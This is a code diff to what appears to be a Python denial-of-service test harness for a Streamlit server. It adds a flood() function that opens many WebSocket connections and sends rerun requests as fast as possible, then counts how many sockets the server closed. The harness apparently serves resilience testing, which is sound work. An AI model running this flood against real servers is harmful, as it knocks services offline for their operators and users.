@@ -10,6 +10,7 @@ from concurrent.futures import ThreadPoolExecutor
 from contextlib import ExitStack, suppress
 from http.client import HTTPConnection, HTTPException
 
+from streamlit.proto.BackMsg_pb2 import BackMsg
 from websockets.exceptions import InvalidHandshake, WebSocketException
 from websockets.sync.client import ClientConnection, connect
 from websockets.typing import Origin, Subprotocol
@@ -69,6 +70,30 @@ def send_bombs(port: int) -> str:
                 except WebSocketException:
                     closed += 1
     return f"{closed} of 8 closed"
+
+
+def flood(sockets: int, seconds: float = 25) -> Attack:
+    """Ask for a page again and again, as fast as sockets can."""
+
+    def send(port: int) -> tuple[int, bool]:
+        sent, end, asked = 0, time.monotonic() + seconds, BackMsg()
+        try:
+            with _open_socket(port) as one:
+                while time.monotonic() < end:
+                    asked.rerun_script.query_string = f"q={sent}"
+                    one.send(asked.SerializeToString())
+                    sent += 1
+        except (InvalidHandshake, WebSocketException, OSError):
+            return sent, True
+        return sent, False
+
+    def attack(port: int) -> str:
+        with ThreadPoolExecutor(sockets) as pool:
+            ended = list(pool.map(send, [port] * sockets))
+        closed = sum(is_closed for _, is_closed in ended)
+        return f"{sum(sent for sent, _ in ended):,} sent, {closed} of {sockets} closed"
+
+    return attack
 
 
 def upload(port: int) -> str:
@@ -141,6 +166,7 @@ def _open_socket(port: int, origin: str | None = None) -> ClientConnection:
         subprotocols=[Subprotocol("streamlit")],
         open_timeout=_PATIENCE_S,
         source_address=(ATTACKER, 0),
+        max_queue=None,
     )
 
 
